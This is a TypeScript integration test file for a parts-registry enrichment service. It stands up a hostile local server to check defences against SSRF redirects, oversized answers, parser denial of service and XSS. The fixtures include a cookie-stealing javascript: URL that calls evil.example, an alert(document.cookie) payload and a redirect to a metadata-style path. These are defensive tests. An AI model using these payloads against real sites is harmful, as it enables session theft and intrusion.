import { parseRegistryPartXml } from '@brickyard/parts';
import { freePort, getOnNewConnection, startTestServer, WsProbe, type TestServer } from '@brickyard/testing';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as mysql from 'mysql2/promise';
import { afterAll, beforeAll, expect, test } from 'vitest';

// Enrichment against a hostile stand-in for the Registry (on loopback, listed in
// PARTS_SOURCE_ALLOWED_HOSTS by host:port): it redirects to another local port,
// answers 50 MiB, answers 2 MiB of unterminated tags, or gives a `javascript:` URL.
// One HTTP worker, so every request below (health probes included) meets the
// worker that runs the fetch.
const MiB = 1024 * 1024;
const CAP = 2 * MiB; // PARTS_EXTRAS_MAX_BYTES by default
let server: TestServer;
let hostile: http.Server;
let internal: http.Server;
let hostilePort = 0;
let internalPort = 0;
const hits = new Map<string, number>();
let internalHits = 0;
let hugeSent = 0;

const rsbpml = (name: string, url: string) => `<?xml version="1.0" encoding="UTF-8"?>
<rsbpml><part_list><part><part_id>1</part_id><part_name>${name}</part_name><part_url>${url}</part_url>
<parameters/><categories><category>//direction/forward</category></categories><twins><twin>BBa_J34801</twin></twins>
</part></part_list></rsbpml>`;

/** Unterminated tags, under the cap: quadratic for a regex reader, one pass for ours. */
const unterminated = (() => {
  const head = '<?xml version="1.0"?><rsbpml><part_list>';
  const tail = '</part_list></rsbpml>';
  const unit = '<part <a<a';
  return head + unit.repeat(Math.floor((CAP - 1024 - head.length - tail.length) / unit.length)) + tail;
})();

beforeAll(async () => {
  internal = http.createServer((_request, response) => {
    internalHits++;
    response.writeHead(200, { 'content-type': 'text/xml' }).end(rsbpml('BBa_B0030', 'http://parts.igem.org/Part:BBa_B0030'));
  });
  internalPort = await freePort();
  await new Promise<void>((resolve) => internal.listen(internalPort, '127.0.0.1', resolve));

  hostile = http.createServer((request, response) => {
    const name = decodeURIComponent(request.url!.split('/').pop()!);
    hits.set(name, (hits.get(name) ?? 0) + 1);
    if (name === 'BBa_B0030') return void response.writeHead(302, { location: `http://127.0.0.1:${internalPort}/latest/meta-data/${name}` }).end();
    if (name === 'BBa_B0033') return void response.writeHead(200, { 'content-type': 'text/xml' }).end(rsbpml(name, 'javascript:fetch(`//evil.example/?`+document.cookie)'));
    if (name === 'BBa_B0032') return void response.writeHead(200, { 'content-type': 'text/xml' }).end(unterminated);
    if (name === 'BBa_B0031') {
      // 50 MiB, written as the reader takes it, so what was sent shows where the reader stopped.
      response.writeHead(200, { 'content-type': 'text/xml' });
      const chunk = Buffer.alloc(64 * 1024, 'x');
      response.write('<rsbpml><part_list><part><part_name>');
      const pump = () => {
        while (hugeSent < 50 * MiB && !response.destroyed) {
          hugeSent += chunk.length;
          if (!response.write(chunk)) return void response.once('drain', pump);
        }
        response.end();
      };
      response.on('error', () => {});
      return pump();
    }
    response.writeHead(500).end('no such part here');
  });
  hostilePort = await freePort();
  await new Promise<void>((resolve) => hostile.listen(hostilePort, '127.0.0.1', resolve));
  server = await startTestServer({
    workers: 1,
    env: {
      PLUGINS_WATCH: 'false',
      PARTS_DEMO_DATA: 'true',
      PARTS_SOURCE_URL: `http://127.0.0.1:${hostilePort}/part/{name}`,
      PARTS_SOURCE_ALLOWED_HOSTS: `127.0.0.1:${hostilePort}`,
      PARTS_EXTRAS_TIMEOUT_MS: '20000',
    },
  });
});
afterAll(async () => {
  const db = await mysql.createConnection({ host: '127.0.0.1', user: 'root' });
  if (server) await db.query(`DROP DATABASE IF EXISTS \`${server.database.name}_igem\``);
  await db.end();
  await server?.stop();
  hostile?.closeAllConnections();
  hostile?.close();
  internal?.close();
});

const detail = async (name: string) => (await getOnNewConnection(`${server.url}/api/parts/${name}`)).body;
const query = async (sql: string, params: unknown[] = []) => {
  const db = await mysql.createConnection({ host: '127.0.0.1', user: 'root', database: server.database.name });
  try {
    return ((await db.query(sql, params)) as any)[0];
  } finally {
    await db.end();
  }
};
const extrasRow = async (name: string) => (await query('SELECT * FROM part_extras WHERE part_name = ?', [name]))[0];
async function until<T>(read: () => Promise<T>, ok: (value: T) => boolean, withinMs: number): Promise<T> {
  const started = Date.now();
  for (;;) {
    const value = await read();
    if (ok(value)) return value;
    if (Date.now() - started > withinMs) throw new Error(`not reached within ${withinMs} ms: ${JSON.stringify(value)}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}
/** GET /api/health on a new connection: how long it took (Infinity past `limitMs`). */
function healthLatency(limitMs: number): Promise<number> {
  const started = performance.now();
  return new Promise((resolve) => {
    const request = http.get(`${server.url}/api/health`, { agent: false, timeout: limitMs }, (response) => {
      response.resume();
      response.on('end', () => resolve(response.statusCode === 200 ? performance.now() - started : Infinity));
    });
    request.on('timeout', () => {
      request.destroy();
      resolve(Infinity);
    });
    request.on('error', () => resolve(Infinity));
  });
}
/** Resident memory of a process, in bytes (`field`: VmRSS now, VmHWM its peak). */
const memory = (pid: number, field: 'VmRSS' | 'VmHWM') => {
  const kb = new RegExp(`^${field}:\\s+(\\d+) kB`, 'm').exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
  return Number(kb) * 1024;
};

test('a redirect from the allowed source to another local port is refused, and nothing is fetched there', async () => {
  expect((await detail('BBa_B0030')).extras_state).toBe('missing');
  const row = await until(() => extrasRow('BBa_B0030'), (r) => r?.failures === 1 || r?.fetched_at, 10_000);
  expect(row.extras).toBeNull();
  expect(row.last_error).toBe('127.0.0.1 is a private or local address: fetches go to public hosts only (PARTS_SOURCE_ALLOWED_HOSTS lists exceptions)');
  expect(hits.get('BBa_B0030')).toBe(1);
  expect(internalHits).toBe(0);
});

test('a 50 MiB answer is cut off at PARTS_EXTRAS_MAX_BYTES while it streams: the worker does not hold it', async () => {
  const worker = (await getOnNewConnection(`${server.url}/api/health`)).body.pid as number;
  expect(worker).not.toBe(server.pid);
  const before = memory(worker, 'VmRSS');
  // Start the peak afresh where the kernel allows it ("5" resets VmHWM), and sample besides.
  let peak = before;
  try {
    fs.writeFileSync(`/proc/${worker}/clear_refs`, '5');
  } catch {
    // not allowed here: the samples alone say it
  }
  const sampler = setInterval(() => (peak = Math.max(peak, memory(worker, 'VmRSS'))), 10);
  try {
    const started = Date.now();
    await detail('BBa_B0031');
    const row = await until(() => extrasRow('BBa_B0031'), (r) => r?.failures === 1 || r?.fetched_at, 15_000);
    const took = Date.now() - started;
    peak = Math.max(peak, memory(worker, 'VmRSS'), memory(worker, 'VmHWM'));
    expect(row.last_error).toBe(`the answer from http://127.0.0.1:${hostilePort}/part/BBa_B0031 is larger than ${CAP} bytes (PARTS_EXTRAS_MAX_BYTES)`);
    expect(took).toBeLessThan(5000);
    // The worker held about the cap, never the answer (reading 50 MiB whole costs some 150 MB more).
    expect(peak - before).toBeLessThan(100 * MiB);
    // And it stopped reading: the hostile server could send only the cap plus what the sockets buffer.
    await new Promise((r) => setTimeout(r, 200));
    expect(hugeSent).toBeLessThan(30 * MiB);
  } finally {
    clearInterval(sampler);
  }
});

test('2 MiB of unterminated tags is read at once, and /api/health keeps answering fast meanwhile', async () => {
  expect(unterminated.length).toBeLessThan(CAP);
  const latencies: number[] = [];
  let done = false;
  const probing = (async () => {
    while (!done) latencies.push(await healthLatency(2000));
  })();
  let row;
  try {
    await detail('BBa_B0032');
    row = await until(() => extrasRow('BBa_B0032'), (r) => r?.failures === 1 || r?.fetched_at, 10_000).catch((error: Error) => error);
    await new Promise((r) => setTimeout(r, 200));
  } finally {
    done = true;
    await probing;
  }
  expect(latencies.length).toBeGreaterThan(3);
  expect(Math.max(...latencies), `health latencies ${latencies.map(Math.round).join(', ')} ms`).toBeLessThan(750);
  expect(row).toMatchObject({ failures: 1, last_error: 'the answer has no <part> named BBa_B0032' });
  expect(hits.get('BBa_B0032')).toBe(1);

  // What the worker had to do: one pass over the capped answer.
  const started = performance.now();
  expect(() => parseRegistryPartXml(unterminated, 'BBa_B0032')).toThrow('the answer has no <part> named BBa_B0032');
  expect(performance.now() - started).toBeLessThan(500);
});

test('a javascript: part_url is never served: not when fetched, not when stored before', async () => {
  const watcher = await WsProbe.open(server.wsUrl);
  await watcher.request({ handler: 'subscribe', data: { topic: 'parts:BBa_B0033' }, id: 'w' }, 'w');
  await detail('BBa_B0033');
  const pushed = await watcher.next((f) => f.handler === 'parts.extras', 10_000);
  expect(pushed.data.extras).toEqual({ parameters: [], twins: ['BBa_J34801'], categories: ['//direction/forward'], url: null });
  watcher.close();
  expect(JSON.parse((await extrasRow('BBa_B0033')).extras).url).toBeNull();
  expect((await detail('BBa_B0033')).extras).toMatchObject({ twins: ['BBa_J34801'], url: null });

  // A row written before URLs were checked.
  const stored = { parameters: [], twins: ['BBa_J34801'], categories: [], url: 'javascript:alert(document.cookie)' };
  await query('INSERT INTO part_extras (part_name, extras, fetched_at, failures) VALUES (?, ?, CURRENT_TIMESTAMP(3), 0)', ['BBa_C0012', JSON.stringify(stored)]);
  const page = await detail('BBa_C0012');
  expect(page.extras_state).toBe('fresh');
  expect(page.extras).toEqual({ ...stored, url: null });
  expect(JSON.stringify(page)).not.toMatch(/javascript:/i);
  expect(hits.get('BBa_C0012')).toBeUndefined();
});
